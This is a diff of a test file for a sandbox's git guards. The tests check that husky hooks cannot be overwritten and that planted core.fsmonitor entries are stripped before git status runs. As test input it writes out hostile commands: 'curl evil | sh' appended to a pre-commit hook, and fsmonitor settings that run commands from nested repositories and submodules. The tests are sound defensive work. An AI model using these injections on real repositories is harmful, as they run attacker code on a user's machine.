@@ -43,9 +43,7 @@ afterEach(async () => {
 describe.each(modes)("git code guards (%s)", (mode) => {
   it.runIf(mode === "bwrap")("husky's hooks cannot be written or swapped from the sandbox; the rest of the worktree can", async () => {
     const { ws, sh } = setUp(mode);
-    const out = await sh(
-      "echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/_/pre-commit; mv .husky .h2 && mkdir -p .husky/_ && echo evil > .husky/pre-commit; echo ok > b.txt; cat b.txt",
-    );
+    const out = await sh("echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/_/pre-commit; mv .husky .h2 && mkdir -p .husky/_ && echo evil > .husky/pre-commit; echo ok > b.txt; cat b.txt");
     expect(out).toContain("ok");
     expect(readFileSync(join(ws, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
     expect(existsSync(join(ws, ".husky", "_", "pre-commit"))).toBe(false);
@@ -66,7 +64,8 @@ describe.each(modes)("git code guards (%s)", (mode) => {
   it("a code key planted in a nested repository's config, then `git add`ed as a gitlink, is taken out before the user's git status", async () => {
     const { ws, sh, git } = setUp(mode);
     // A spelling the audit cannot read (python writes the file), approved in yolo or by --yes.
-    const plant = "git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && python3 -c \"open('sub/.git/config','a').write('[core]\\n\\tfsmonitor = touch ../pwned\\n')\" && git add sub";
+    const plant =
+      "git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && python3 -c \"open('sub/.git/config','a').write('[core]\\n\\tfsmonitor = touch ../pwned\\n')\" && git add sub";
     const out = await sh(plant);
     expect(out).toContain("deerflow removed core.fsmonitor from");
     expect(readFileSync(join(ws, "sub", ".git", "config"), "utf8")).not.toContain("fsmonitor");
@@ -97,7 +96,9 @@ describe.each(modes)("git code guards (%s)", (mode) => {
     execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "s"], { cwd: sub });
     git("-c", "protocol.file.allow=always", "submodule", "add", "-q", sub, "mod");
     git("commit", "-q", "-m", "mod");
-    const out = await sh("mkdir -p evil && git init -q evil/gd && printf '[core]\\n\\tfsmonitor = touch ../../pwned-mod\\n' >> evil/gd/.git/config && printf 'gitdir: ../evil/gd/.git\\n' > mod/.git; echo done");
+    const out = await sh(
+      "mkdir -p evil && git init -q evil/gd && printf '[core]\\n\\tfsmonitor = touch ../../pwned-mod\\n' >> evil/gd/.git/config && printf 'gitdir: ../evil/gd/.git\\n' > mod/.git; echo done",
+    );
     expect(out).toContain("deerflow removed core.fsmonitor");
     git("status", "--porcelain");
     expect(existsSync(join(ws, "pwned-mod"))).toBe(false);
